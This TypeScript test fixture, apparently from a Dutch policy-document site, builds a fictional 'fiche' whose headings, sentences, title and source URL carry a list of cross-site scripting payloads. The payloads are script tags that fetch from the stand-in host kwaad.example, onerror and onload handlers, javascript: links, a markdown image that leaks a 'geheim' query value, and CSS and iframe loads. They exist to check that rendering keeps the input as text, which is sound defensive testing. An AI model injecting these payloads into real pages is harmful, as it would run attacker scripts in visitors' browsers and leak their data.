import { fictional } from '../app/small-index.ts';
import { assetsOf } from './assets.ts';

/** What a document may hold that must stay text (rows 12 and 14 to 16 of the threats). */
export const PAYLOADS = [
  '<script>fetch("https://kwaad.example/s")</script>',
  '<img src="https://kwaad.example/i.png" onerror="alert(1)">',
  '<svg onload="alert(2)"><a href="data:text/html,x">hier</a></svg>',
  '![plaatje](https://kwaad.example/m.png?q=geheim)',
  '[deze link](javascript:alert(3))',
  '<a href="javascript:alert(4)">klik</a>',
  '<style>@import "https://kwaad.example/c.css"</style>',
  '"><iframe src="https://kwaad.example/"></iframe>',
] as const;

export const TITLE = `Fiche: Verordening molens ${PAYLOADS[1]} ${PAYLOADS[3]}`;

/** A fictional fiche in which every sentence of the cabinet holds one of them; made, since reading would drop some. */
const { document: FICHE } = fictional(
  'fiche-molens',
  [
    {
      heading: '2. Essentie voorstel',
      voice: 'commissie',
      modality: 'voorgesteld',
      texts: ['De Commissie stelt voor alle molens te tellen.'],
    },
    {
      heading: `3. Beoordeling ${PAYLOADS[0]}`,
      voice: 'kabinet',
      texts: PAYLOADS.map(
        (payload, at) => `Het kabinet steunt molens van soort ${at + 1} ${payload} in de polder.`,
      ),
    },
  ],
  { title: TITLE, source: { name: '<b>.txt', url: 'javascript:alert(5)', sha256: '0'.repeat(64) } },
);

/** Files to serve: an index over that fiche, and the built page. */
export const hostileAssets = (): Promise<string> => assetsOf([FICHE]);
